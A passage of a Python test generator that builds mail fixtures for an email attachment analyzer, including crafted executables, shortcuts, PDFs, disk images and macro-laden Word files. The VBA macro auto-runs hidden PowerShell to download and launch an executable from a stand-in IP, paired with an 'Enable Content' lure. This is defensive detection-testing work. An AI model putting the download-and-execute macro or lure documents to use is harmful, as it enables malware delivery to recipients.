#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Writes the golden cases of the attachments analyzer.

Usage (from anywhere; paths are found from this file):

    python3 tests/gen/attachment_cases.py

Writes tests/cases/analyze_att_<name>/mail.eml and expected.json for
every case below, run by tests/golden.py as `mailscope analyze --no-spam
[args] mail.eml`. The mails are built here byte by byte: realistic
headers (Received chain, Message-ID, MIME multipart/mixed), a short text
body and base64 attachments.

The expected values do not come from mailscope:
- sizes and md5/sha1/sha256/sha512 are hashlib's digests of the very
  bytes this script attaches (or puts inside an archive);
- flags and YARA matches follow from how the bytes were built, read
  against docs/attachments.md and the rules in conf/yara/.

Archives are made with the Debian tools zip, 7z (p7zip-full), tar, gzip,
bzip2 and xz; a format whose tool is missing is skipped with a message
(the cases are committed, so generation happens once). Executables,
shortcuts, the OLE2 compound file, PDFs and disk images are built here
from their specifications. File times are fixed so that a rerun on the
same tools writes the same bytes.

Python 3 standard library only.
"""
import base64
import hashlib
import io
import json
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import urllib.parse
import zipfile

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(
    os.path.abspath(__file__))))
CASES = os.path.join(ROOT, "tests", "cases")
PREFIX = "analyze_att_"

# 2024-06-03 08:15:00 UTC: the time stamped on every file put in an
# archive, so reruns give the same bytes.
FILE_TIME = 1717402500

WORK = None
WRITTEN = []
SKIPPED = []

EICAR = (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!"
         b"$H+H*")

# ---------------------------------------------------------------- helpers

def have(tool):
    """True when the command-line tool is installed."""
    return shutil.which(tool) is not None


def skip(case, why):
    SKIPPED.append((PREFIX + case, why))
    print(f"skip {PREFIX}{case}: {why}")


def run(args, cwd=None, data=None):
    """Runs a tool; returns its stdout. Fixed TZ and locale."""
    env = dict(os.environ, TZ="UTC", LC_ALL="C")
    return subprocess.run(args, cwd=cwd, input=data, env=env, check=True,
                          stdout=subprocess.PIPE,
                          stderr=subprocess.DEVNULL).stdout


def stage(files):
    """Writes (name, bytes) files into a fresh folder with the fixed
    time; returns the folder."""
    d = tempfile.mkdtemp(dir=WORK)
    for name, data in files:
        p = os.path.join(d, name)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "wb") as f:
            f.write(data)
        os.utime(p, (FILE_TIME, FILE_TIME))
    return d


def read_out(path):
    with open(path, "rb") as f:
        return f.read()


def make_zip(files, password=None):
    """A zip made by Info-ZIP's zip (ZipCrypto with -P)."""
    d = stage(files)
    out = os.path.join(d, "out.zip")
    args = ["zip", "-q", "-X", "-D"]
    if password is not None:
        args += ["-P", password]
    run(args + [out] + [n for n, _ in files], cwd=d)
    return read_out(out)


def make_7z(files, password=None, fmt="7z", aes=False, encrypt_names=False):
    """An archive made by 7z: a 7z archive, or a zip (fmt="zip", with
    WinZip AES when aes is set)."""
    d = stage(files)
    out = os.path.join(d, "out." + fmt)
    args = ["7z", "a", "-t" + fmt, "-bd"]
    if password is not None:
        args.append("-p" + password)
    if aes:
        args.append("-mem=AES256")
    if encrypt_names:
        args.append("-mhe=on")
    run(args + [out] + [n for n, _ in files], cwd=d)
    return read_out(out)


def list_7z(data):
    """The entry paths of a 7z archive in stored order, as 7z lists
    them (7z sorts files by extension for solid compression)."""
    d = tempfile.mkdtemp(dir=WORK)
    p = os.path.join(d, "list.7z")
    with open(p, "wb") as f:
        f.write(data)
    out = run(["7z", "l", "-slt", "-sccUTF-8", p]).decode("utf-8")
    body = out.split("----------", 1)[1]
    return [line[7:] for line in body.splitlines()
            if line.startswith("Path = ")]


def make_tar(files, compress=None):
    """A tar archive made by GNU tar, compressed with gzip -n when asked."""
    d = stage(files)
    out = os.path.join(d, "out.tar")
    run(["tar", "--format=gnu", "--owner=0", "--group=0", "--numeric-owner",
         "--sort=name", "--mtime=@%d" % FILE_TIME, "-cf", out] +
        [n for n, _ in files], cwd=d)
    data = read_out(out)
    if compress == "gzip":
        data = run(["gzip", "-n", "-9", "-c"], data=data)
    return data


def compress(tool, data):
    """One gzip/bzip2/xz stream of the bytes (gzip without name/time)."""
    args = [tool, "-c", "-9"]
    if tool == "gzip":
        args.insert(1, "-n")
    return run(args, data=data)


def hashes(data):
    return {
        "size": len(data),
        "md5": hashlib.md5(data).hexdigest(),
        "sha1": hashlib.sha1(data).hexdigest(),
        "sha256": hashlib.sha256(data).hexdigest(),
        "sha512": hashlib.sha512(data).hexdigest(),
    }


# The order in which the analyzer adds flags: traits.c (programs,
# macros, PDF, HTML, disk images, then the name), then the type mismatch
# and the archive flag (attachments.c). A flags list is pinned exactly,
# so that a flag that must not be there fails the case too.
FLAG_ORDER = ["executable", "script", "shortcut", "office_macro",
              "pdf_javascript", "pdf_open_action", "pdf_auto_action",
              "pdf_launch", "pdf_embedded_file", "html_form", "html_script",
              "disk_image", "double_extension", "rtl_override",
              "space_padding_name", "type_mismatch", "encrypted_archive"]


def pin_flags(present, reasons=None):
    """The exact flags list: each present flag by name (and reason when
    reasons gives a pin for it)."""
    reasons = reasons or {}
    out = []
    for name in sorted(present, key=FLAG_ORDER.index):
        item = {"name": name}
        if name in reasons:
            item["reason"] = reasons[name]
        out.append(item)
    return out


def report(filename, data, extension, flags_present=(), reasons=None,
           yara=None, mime=None, files=None, is_archive=False, **extra):
    """The pin of one file report: name, extension, hashes, archive
    fields, the exact flags and YARA lists (yara None: no match; files
    None: no inner files)."""
    pin = {"filename": filename, "extension": extension}
    pin.update(hashes(data))
    pin["ssdeep"] = {"$regex": r"^\d+:[0-9A-Za-z+/]+:[0-9A-Za-z+/]+$"}
    if mime is not None:
        pin["mime_type"] = mime
    pin["is_archive"] = is_archive
    if not is_archive:
        pin["archive_format"] = None
        pin["encrypted"] = False
        pin["password_used"] = None
    pin["files"] = files if files is not None else []
    pin["flags"] = pin_flags(flags_present, reasons)
    pin["yara"] = yara if yara is not None else []
    pin["is_filtered"] = False
    pin.update(extra)
    return pin


def top(filename, content_type, data, extension, path="2", **kw):
    """The pin of an attachment: a report plus the MIME part fields."""
    pin = report(filename, data, extension, **kw)
    pin.update({"content_type": content_type, "disposition": "attachment",
                "transfer_encoding": "base64", "path": path,
                "recovered": False, "content_id": None})
    return pin


def inner(filename, data, extension, **kw):
    """The pin of a file inside an archive (no declared type)."""
    pin = report(filename, data, extension, **kw)
    pin["content_type"] = None
    return pin


def yara_rule(rule, namespace, tags):
    return {"rule": rule, "namespace": namespace, "tags": tags}


# ------------------------------------------------------------------ mails

def encode_words(text):
    """RFC 2047 encoded word for non-ASCII header text, as clients write
    it; ASCII text is left alone."""
    if text.isascii():
        return text
    return "=?UTF-8?B?%s?=" % base64.b64encode(text.encode()).decode()


def encode_address(addr):
    """`Name <a@b>` with the display name encoded when not ASCII."""
    if "<" not in addr or addr.isascii():
        return addr
    name, rest = addr.split("<", 1)
    return "%s <%s" % (encode_words(name.strip()), rest)


class Mail:
    """One realistic mail: sender, recipient, subject, date, the hop
    chain and the text; attachments are added with attach()."""

    def __init__(self, sender, to, subject, date, body, msgid_host,
                 client="Microsoft Outlook 16.0", src_ip="198.51.100.23",
                 helo=None, mx="mx1.example.org", queue_id="4VxK2m0Pq7z9sTn"):
        self.sender = sender
        self.to = to
        self.subject = subject
        self.date = date
        self.body = body
        self.msgid_host = msgid_host
        self.client = client
        self.src_ip = src_ip
        self.helo = helo or "mail." + msgid_host
        self.mx = mx
        self.queue_id = queue_id
        self.parts = []
        self.html = None

    def add_html(self, html):
        """Sends the text as multipart/alternative with this HTML."""
        self.html = html

    def attach(self, data, content_type, filename, name_param=None,
               disposition_param=None):
        """Adds a base64 attachment. name_param/disposition_param replace
        the quoted name= and filename= parameters (already encoded)."""
        if name_param is None:
            name_param = 'name="%s"' % filename
        if disposition_param is None:
            disposition_param = 'filename="%s"' % filename
        self.parts.append((data, content_type, name_param, disposition_param))

    def bytes(self, case):
        seed = hashlib.sha1(case.encode()).hexdigest()
        boundary = "----=_NextPart_000_%s_%s.%s" % (
            seed[:4].upper(), seed[4:12].upper(), seed[12:20].upper())
        addr = self.sender.split("<")[-1].rstrip(">")
        rcpt = self.to.split("<")[-1].rstrip(">")
        msgid = "<%s$%s@%s>" % (seed[:12], seed[12:20], self.msgid_host)
        date_utc = self.date  # the hops are stamped in the sender's zone
        h = []
        h.append("Return-Path: <%s>" % addr)
        h.append("Received: from %s (%s [%s])\r\n"
                 "\tby %s (Postfix) with ESMTPS id %s\r\n"
                 "\tfor <%s>; %s" % (self.helo, self.helo, self.src_ip,
                                     self.mx, self.queue_id, rcpt, date_utc))
        h.append("Received: from WS-%s (unknown [10.20.4.%d])\r\n"
                 "\tby %s (Postfix) with ESMTPSA id %s;\r\n"
                 "\t%s" % (seed[20:24].upper(), int(seed[24:26], 16) % 200 + 20,
                           self.helo, seed[26:36].upper(), date_utc))
        h.append("From: %s" % encode_address(self.sender))
        h.append("To: %s" % encode_address(self.to))
        h.append("Subject: %s" % encode_words(self.subject))
        h.append("Date: %s" % self.date)
        h.append("Message-ID: %s" % msgid)
        h.append("MIME-Version: 1.0")
        h.append("X-Mailer: %s" % self.client)
        h.append('Content-Type: multipart/mixed;\r\n\tboundary="%s"'
                 % boundary)
        out = "\r\n".join(h) + "\r\n\r\nThis is a multi-part message in " \
            "MIME format.\r\n\r\n"
        out += "--%s\r\n" % boundary
        text = ('Content-Type: text/plain; charset="utf-8"\r\n'
                "Content-Transfer-Encoding: 8bit\r\n\r\n").encode()
        text += self.body.replace("\n", "\r\n").encode("utf-8") + b"\r\n"
        if self.html is not None:
            alt = "----=_Alt_%s" % seed[20:32].upper()
            out += ('Content-Type: multipart/alternative;\r\n'
                    '\tboundary="%s"\r\n\r\n--%s\r\n' % (alt, alt))
            out = out.encode() + text
            out += ("--%s\r\nContent-Type: text/html; charset=\"utf-8\"\r\n"
                    "Content-Transfer-Encoding: 8bit\r\n\r\n" % alt).encode()
            out += self.html.replace("\n", "\r\n").encode("utf-8")
            out += ("\r\n--%s--\r\n\r\n" % alt).encode()
        else:
            out = out.encode() + text
        for data, ctype, name_param, disp_param in self.parts:
            part = "--%s\r\n" % boundary
            part += "Content-Type: %s;\r\n\t%s\r\n" % (ctype, name_param)
            part += "Content-Transfer-Encoding: base64\r\n"
            part += "Content-Disposition: attachment;\r\n\t%s\r\n\r\n" \
                % disp_param
            b64 = base64.b64encode(data).decode()
            part += "\r\n".join(b64[i:i + 76]
                                for i in range(0, len(b64), 76))
            part += "\r\n\r\n"
            out += part.encode()
        out += ("--%s--\r\n" % boundary).encode()
        return out


def write_case(case, mail, attachments, comment, args=None, defects=None,
               extra=None):
    """Writes tests/cases/analyze_att_<case>/: mail.eml, expected.json
    (the attachments list pinned exactly, element by element) and args."""
    d = os.path.join(CASES, PREFIX + case)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, "mail.eml"), "wb") as f:
        f.write(mail.bytes(case))
    expected = {"$command": ["analyze", "--no-spam"], "$comment": comment,
                "subject": mail.subject, "attachments": attachments}
    if defects is not None:
        expected.update(defects)
    if extra:
        expected.update(extra)
    with open(os.path.join(d, "expected.json"), "w", encoding="utf-8") as f:
        json.dump(expected, f, indent=2, ensure_ascii=False)
        f.write("\n")
    args_path = os.path.join(d, "args")
    if args:
        with open(args_path, "w") as f:
            f.write(args + "\n")
    elif os.path.exists(args_path):
        os.unlink(args_path)
    WRITTEN.append(PREFIX + case)
    print(f"wrote {PREFIX}{case}")
    return d


NO_DEFECTS = {"defects": []}


def defect_pin(*types):
    return {"defects_categories": {"$contains": list(types)}}


# --------------------------------------------------------------- contents

def invoice_text(number, amount, customer="Northwind Traders Ltd."):
    """A plain-text invoice, as accounting exports write them."""
    lines = [
        "INVOICE %s" % number,
        "",
        "Bill to: %s" % customer,
        "         14 Harbour Road, Bristol BS1 5TY",
        "Date:    2024-06-03        Due: 2024-07-03",
        "",
        "Qty  Item                                    Unit      Total",
    ]
    items = [("Pallet wrap 500mm x 300m", 28.40), ("Carton 600x400x400",
                                                    1.85),
             ("Tape 48mm brown", 2.10), ("Delivery Zone B", 45.00)]
    for i, (item, unit) in enumerate(items):
        qty = (i + 2) * 6
        lines.append("%3d  %-38s %8.2f %9.2f" % (qty, item, unit, qty * unit))
    lines += ["", "Total due: GBP %s" % amount, "",
              "Bank: Example Bank plc, sort code 00-00-00, account 00000000",
              ""]
    return "\r\n".join(lines).encode()


def csv_text(rows=40):
    out = ["order_id,sku,qty,unit_price,shipped"]
    for i in range(rows):
        out.append("%d,SKU-%05d,%d,%d.%02d,2024-05-%02d" % (
            88200 + i, 31 * i + 7, i % 9 + 1, 3 + i % 17, (i * 37) % 100,
            i % 28 + 1))
    return ("\n".join(out) + "\n").encode()


def pdf(objects, root=1):
    """A PDF 1.7 file with the numbered objects (bytes bodies) and a
    correct cross-reference table."""
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += (b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n"
            % (len(objects) + 1, root, xref))
    return out


def pdf_page(text):
    """Catalog-less page objects 2..4: pages, page, content stream."""
    stream = b"BT /F1 12 Tf 72 720 Td (" + text + b") Tj ET"
    return [
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 "
        b"/BaseFont /Helvetica >> >> >> /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream +
        b"\nendstream",
    ]


def pdf_clean(text=b"Invoice INV-2024-0611"):
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>"] + pdf_page(text))


# libmagic's MIME type of a PE: application/x-dosexec up to file 5.44,
# application/vnd.microsoft.portable-executable in later databases.
PE_MIME = {"$regex": "^application/(x-dosexec|vnd\\.microsoft\\."
                     "portable-executable)$"}


def pe_file():
    """A 32-bit Windows GUI program: DOS stub, PE header, one .text
    section holding `xor eax, eax; ret`, as a linker lays it out."""
    stub = (b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
            b"This program cannot be run in DOS mode.\r\r\n$")
    mz = bytearray(0x40)
    struct.pack_into("<2sHHHHHHHHHHHHH", mz, 0, b"MZ", 0x90, 3, 0, 4, 0,
                     0xFFFF, 0, 0xB8, 0, 0, 0, 0x40, 0)
    struct.pack_into("<I", mz, 0x3C, 0x80)
    dos = (bytes(mz) + stub).ljust(0x80, b"\0")
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0x665D6B84, 0, 0,
                                   0xE0, 0x0102)
    opt = bytearray(0xE0)
    struct.pack_into("<HBBIIIIII", opt, 0, 0x10B, 14, 0, 0x200, 0, 0,
                     0x1000, 0x1000, 0x2000)
    struct.pack_into("<III", opt, 28, 0x400000, 0x1000, 0x200)
    struct.pack_into("<HHHHHH", opt, 40, 6, 0, 0, 0, 6, 0)
    struct.pack_into("<IIII", opt, 52, 0, 0x2000, 0x200, 0)
    struct.pack_into("<HH", opt, 68, 2, 0x8540)       # GUI; NX, ASLR
    struct.pack_into("<IIII", opt, 72, 0x100000, 0x1000, 0x100000, 0x1000)
    struct.pack_into("<II", opt, 88, 0, 16)
    section = b".text\0\0\0" + struct.pack("<IIIIIIHHI", 3, 0x1000, 0x200,
                                            0x200, 0, 0, 0, 0, 0x60000020)
    head = (dos + coff + bytes(opt) + section).ljust(0x200, b"\0")
    return head + (b"\x31\xc0\xc3").ljust(0x200, b"\xcc")


def elf_file():
    """A static x86-64 Linux program: ELF header, one PT_LOAD segment,
    code that calls exit(0)."""
    code = b"\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05"   # xor edi,edi; exit
    base = 0x400000
    entry = base + 64 + 56
    ehdr = b"\x7fELF\x02\x01\x01\x00" + bytes(8)
    ehdr += struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, entry, 64, 0, 0, 64,
                        56, 1, 64, 0, 0)
    size = 64 + 56 + len(code)
    phdr = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 0x1000)
    return ehdr + phdr + code


def lnk_file(args):
    """A Windows shortcut (MS-SHLLINK) to cmd.exe with arguments, a
    name, a working folder and an icon, as phishing kits build them."""
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    has_name, has_rel, has_wd, has_args, has_icon, unicode_ = \
        0x04, 0x08, 0x10, 0x20, 0x40, 0x80
    link_flags = has_name | has_rel | has_wd | has_args | has_icon | unicode_
    ft = (FILE_TIME + 11644473600) * 10000000
    head = struct.pack("<I16sII", 0x4C, clsid, link_flags, 0x20)
    head += struct.pack("<QQQ", ft, ft, ft)
    head += struct.pack("<IiIHHII", 289792, 0, 7, 0, 0, 0, 0)
    assert len(head) == 0x4C

    def s(text):
        return struct.pack("<H", len(text)) + text.encode("utf-16-le")

    body = (s("Invoice INV-2024-0611 (PDF)") +
            s("..\\..\\..\\..\\Windows\\System32\\cmd.exe") +
            s("%SystemRoot%\\System32") + s(args) +
            s("%ProgramFiles(x86)%\\Microsoft\\Edge\\Application\\"
              "msedge.exe"))
    return head + body + b"\0\0\0\0"


# ----------------------------------------------------- OLE2 compound file

FREESECT, ENDOFCHAIN, FATSECT, NOSTREAM = (0xFFFFFFFF, 0xFFFFFFFE,
                                           0xFFFFFFFD, 0xFFFFFFFF)


def cfb_name_key(name):
    """The order of sibling names in a compound file: shorter first,
    then by upper-case code points ([MS-CFB] 2.6.4)."""
    return (len(name), name.upper())


def cfb(tree, root_clsid=bytes(16)):
    """A compound file (version 3, 512-byte sectors) from a tree of
    {name: bytes or dict}: dicts are storages, bytes are streams.
    Streams under 4096 bytes live in the mini stream, as Office writes
    them; siblings form a balanced red-black tree."""
    entries = []   # [name, type, left, right, child, clsid, start, size]

    def add(name, kind, clsid=bytes(16)):
        entries.append([name, kind, NOSTREAM, NOSTREAM, NOSTREAM, clsid,
                        ENDOFCHAIN, 0, 1])
        return len(entries) - 1

    streams = []   # (entry index, data)

    def build(children):
        """Adds the children; returns the index of their tree root."""
        ids = []
        for name in sorted(children, key=cfb_name_key):
            value = children[name]
            if isinstance(value, dict):
                i = add(name, 1)
                ids.append(i)
            else:
                i = add(name, 2)
                ids.append(i)
                streams.append((i, value))
        for name, i in zip(sorted(children, key=cfb_name_key), ids):
            if isinstance(children[name], dict):
                entries[i][4] = build(children[name])
        return balance(ids)

    def balance(ids):
        depth_of = {}

        def make(lo, hi, depth):
            if lo >= hi:
                return NOSTREAM
            mid = (lo + hi) // 2
            depth_of[ids[mid]] = depth
            entries[ids[mid]][2] = make(lo, mid, depth + 1)
            entries[ids[mid]][3] = make(mid + 1, hi, depth + 1)
            return ids[mid]

        root = make(0, len(ids), 0)
        if depth_of:
            deepest = max(depth_of.values())
            full = 2 ** (deepest + 1) - 1
            if len(ids) < full:
                for i, d in depth_of.items():
                    if d == deepest:
                        entries[i][8] = 0     # red
        return root

    root = add("Root Entry", 5, root_clsid)
    entries[root][4] = build(tree)

    # Mini stream: every small stream, 64-byte mini sectors.
    mini = b""
    minifat = []
    big = []
    for i, data in streams:
        entries[i][7] = len(data)
        if len(data) == 0:
            continue
        if len(data) < 4096:
            n = (len(data) + 63) // 64
            start = len(mini) // 64
            entries[i][6] = start
            minifat += [start + k + 1 for k in range(n - 1)] + [ENDOFCHAIN]
            mini += data.ljust(n * 64, b"\0")
        else:
            big.append((i, data))

    dir_bytes = b""
    # Sector layout: FAT (1 sector), directory, mini FAT, mini stream,
    # big streams.
    n_dir = (len(entries) + 3) // 4
    n_minifat = (len(minifat) * 4 + 511) // 512
    n_mini = (len(mini) + 511) // 512
    fat = [FATSECT]
    sector = 1

    def chain(n):
        nonlocal sector
        start = sector
        for k in range(n):
            fat.append(start + k + 1 if k < n - 1 else ENDOFCHAIN)
        sector += n
        return start if n else ENDOFCHAIN

    dir_start = chain(n_dir)
    minifat_start = chain(n_minifat)
    mini_start = chain(n_mini)
    entries[root][6] = mini_start
    entries[root][7] = len(mini)
    big_data = b""
    for i, data in big:
        n = (len(data) + 511) // 512
        entries[i][6] = chain(n)
        big_data += data.ljust(n * 512, b"\0")
    assert len(fat) <= 128, "one FAT sector is enough for these files"
    fat += [FREESECT] * (128 - len(fat))

    for name, kind, left, right, child, clsid, start, size, color in entries:
        n = (name + "\0").encode("utf-16-le")
        e = n.ljust(64, b"\0") + struct.pack("<HBB", len(n), kind, color)
        e += struct.pack("<III", left, right, child) + clsid
        e += struct.pack("<I", 0) + bytes(16)
        e += struct.pack("<IQ", start, size)
        dir_bytes += e
    empty = bytes(64) + struct.pack("<HBBIII", 0, 0, 0, NOSTREAM, NOSTREAM,
                                    NOSTREAM) + bytes(48)
    while len(dir_bytes) < n_dir * 512:
        dir_bytes += empty

    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    header += struct.pack("<IIIIIIIII", 0, 1, dir_start, 0, 4096,
                          minifat_start if n_minifat else ENDOFCHAIN,
                          n_minifat, ENDOFCHAIN, 0)
    header += struct.pack("<I", 0) + struct.pack("<I", FREESECT) * 108
    minifat_bytes = b"".join(struct.pack("<I", v) for v in minifat)
    minifat_bytes = minifat_bytes.ljust(n_minifat * 512, b"\xff")
    return (header + struct.pack("<128I", *fat) + dir_bytes + minifat_bytes +
            mini.ljust(n_mini * 512, b"\0") + big_data)


def ovba_compress(data):
    """MS-OVBA compression, literal tokens only (a valid compressed
    container: each flag byte announces 8 literals)."""
    out = b"\x01"
    for c in range(0, len(data), 4096):
        chunk = data[c:c + 4096]
        body = b""
        for g in range(0, len(chunk), 8):
            body += b"\x00" + chunk[g:g + 8]
        assert len(body) + 2 <= 4098
        out += struct.pack("<H", (len(body) + 2 - 3) | 0xB000) + body
    return out


def vba_dir_stream(module):
    """The decompressed `dir` stream of a one-module VBA project."""
    def rec(rid, data):
        return struct.pack("<HI", rid, len(data)) + data

    def u16(v):
        return struct.pack("<H", v)

    def u32(v):
        return struct.pack("<I", v)

    m = module.encode()
    mu = module.encode("utf-16-le")
    out = rec(0x01, u32(1)) + rec(0x4A, u32(3)) + rec(0x02, u32(0x409))
    out += rec(0x14, u32(0x409)) + rec(0x03, u16(1252))
    out += rec(0x04, b"Project") + rec(0x05, b"") + rec(0x40, b"")
    out += rec(0x06, b"") + rec(0x3D, b"") + rec(0x07, u32(0))
    out += rec(0x08, u32(0)) + struct.pack("<HIIH", 0x09, 4, 1425184929, 6)
    out += rec(0x0C, b"") + rec(0x3C, b"")
    out += rec(0x0F, u16(1)) + rec(0x13, u16(0xFFFF))
    out += rec(0x19, m) + rec(0x47, mu) + rec(0x1A, m) + rec(0x32, mu)
    out += rec(0x1C, b"") + rec(0x48, b"") + rec(0x31, u32(0))
    out += rec(0x1E, u32(0)) + rec(0x2C, u16(0xFFFF)) + rec(0x22, b"")
    out += rec(0x2B, b"") + rec(0x10, b"")
    return out


VBA_SOURCE = (
    'Attribute VB_Name = "ThisDocument"\r\n'
    'Attribute VB_Base = "1Normal.ThisDocument"\r\n'
    'Attribute VB_GlobalNameSpace = False\r\n'
    'Attribute VB_Creatable = False\r\n'
    'Attribute VB_PredeclaredId = True\r\n'
    'Attribute VB_Exposed = True\r\n'
    'Attribute VB_TemplateDerived = True\r\n'
    'Attribute VB_Customizable = True\r\n'
    'Sub AutoOpen()\r\n'
    '    Dim c As String\r\n'
    '    c = "powershell -w hidden -c ""iwr http://203.0.113.7/inv.exe '
    '-OutFile $env:TEMP\\inv.exe; Start-Process $env:TEMP\\inv.exe"""\r\n'
    '    CreateObject("WScript.Shell").Run c, 0\r\n'
    'End Sub\r\n')


def vba_source():
    """VBA_SOURCE with a comment line sized so that "AutoOpen" starts a
    group of 8 literals in the compressed stream: then the name is in the
    file as a literal run, as it often is in real documents."""
    head, tail = VBA_SOURCE.split("Sub AutoOpen", 1)
    for pad in range(8):
        comment = "' PO form helper v2" + "-" * pad + "\r\n"
        src = head + comment + "Sub AutoOpen" + tail
        if (src.index("AutoOpen")) % 8 == 0:
            return src.encode()
    raise AssertionError("unreachable")


def vba_project_tree():
    """The Macros (Word) or _VBA_PROJECT_CUR (Excel) storage content."""
    src = vba_source()
    project = (
        'ID="{2F8E4A31-6C1B-4D57-9E0A-7B3C5D2E1F40}"\r\n'
        'Document=ThisDocument/&H00000000\r\n'
        'Name="Project"\r\nHelpContextID="0"\r\n'
        'VersionCompatible32="393222000"\r\n'
        'CMG="5B59F7A1FBA1FBA1FBA1FB"\r\nDPB="0103AD5DAE5DAE5D"\r\n'
        'GC="1517BBE9BCE9BC16"\r\n\r\n[Host Extender Info]\r\n'
        '&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000'
        '\r\n\r\n[Workspace]\r\nThisDocument=0, 0, 0, 0, C\r\n').encode()
    return {
        "PROJECT": project,
        "PROJECTwm": b"ThisDocument\0" +
                     "ThisDocument\0".encode("utf-16-le") + b"\0\0",
        "VBA": {
            "_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
            "dir": ovba_compress(vba_dir_stream("ThisDocument")),
            "ThisDocument": ovba_compress(src),
        },
    }


def word97_doc(with_macros):
    """A Word 97-2003 document: WordDocument (FIB), 1Table, summary
    information and, with macros, the Macros storage holding the VBA
    project. Root CLSID: Word.Document.8."""
    fib = bytearray(1472)
    struct.pack_into("<HHHHH", fib, 0, 0xA5EC, 0x00C1, 0x6A62, 0x0409, 0)
    struct.pack_into("<H", fib, 10, 0x1200 if with_macros else 0x0200)
    text = ("Purchase order PO-24-0611\r" * 40).encode("cp1252")
    tree = {
        "WordDocument": bytes(fib) + text,
        "1Table": bytes(1024),
        "\x05SummaryInformation":
            b"\xfe\xff\x00\x00\x0a\x00\x02\x00" + bytes(20) +
            b"\x01\x00\x00\x00" + bytes(20),
        "\x01CompObj":
            b"\x01\x00\xfe\xff\x03\x0a\x00\x00\xff\xff\xff\xff\x06\x09\x02"
            b"\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46" +
            struct.pack("<I", 27) + b"Microsoft Word 97-2003 Document\0"[:27]
            + struct.pack("<I", 10) + b"MSWordDoc\0" +
            struct.pack("<I", 16) + b"Word.Document.8\0" + bytes(12),
    }
    if with_macros:
        tree["Macros"] = vba_project_tree()
    clsid = bytes.fromhex("0609020000000000c000000000000046")
    return cfb(tree, clsid)


def docm_file():
    """A Word macro-enabled document (.docm): the OPC parts Word writes,
    with word/vbaProject.bin holding the VBA project."""
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
          'content-types"><Default Extension="bin" ContentType="application/'
          'vnd.ms-office.vbaProject"/><Default Extension="rels" ContentType='
          '"application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/word/document.xml" ContentType="application/'
          'vnd.ms-word.document.macroEnabled.main+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://'
            'schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="word/document.xml"/></Relationships>')
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/'
           'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>This document '
           'was created in an earlier version of Microsoft Office Word. To '
           'view the content, click Enable Editing and then Enable Content.'
           '</w:t></w:r></w:p></w:body></w:document>')
    doc_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
                '<Relationships xmlns="http://schemas.openxmlformats.org/'
                'package/2006/relationships"><Relationship Id="rId1" Type='
                '"http://schemas.microsoft.com/office/2006/relationships/'
                'vbaProject" Target="vbaProject.bin"/></Relationships>')
    vba = cfb(vba_project_tree())
    buf = io.BytesIO()
    when = (2024, 6, 3, 8, 15, 0)
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in (("[Content_Types].xml", ct), ("_rels/.rels", rels),
                           ("word/document.xml", doc),
                           ("word/_rels/document.xml.rels", doc_rels),
                           ("word/vbaProject.bin", vba)):
            zf.writestr(zipfile.ZipInfo(name, when), data,
                        zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def vhd_fixed(disk):
    """A fixed VHD: the raw disk followed by the 512-byte footer
    (cookie "conectix", big-endian fields, one's-complement checksum)."""
    size = len(disk)
    cyl, heads, spt = size // (16 * 63 * 512) or 1, 16, 63
    f = bytearray(512)
    struct.pack_into(">8sIIQI4sI4sQQHBBI", f, 0, b"conectix", 2, 0x00010000,
                     0xFFFFFFFFFFFFFFFF, FILE_TIME - 946684800, b"win ",
                     0x000A0000, b"Wi2k", size, size, cyl, heads, spt, 2)
    struct.pack_into(">16s", f, 68,
                     bytes.fromhex("7c1e3a9b5f0d4e2a8b6c1d2e3f405162"))
    checksum = (~sum(f)) & 0xFFFFFFFF
    struct.pack_into(">I", f, 64, checksum)
    return disk + bytes(f)


def mbr_disk(sectors=64):
    """A small raw disk with an MBR holding one FAT16 partition entry."""
    mbr = bytearray(512)
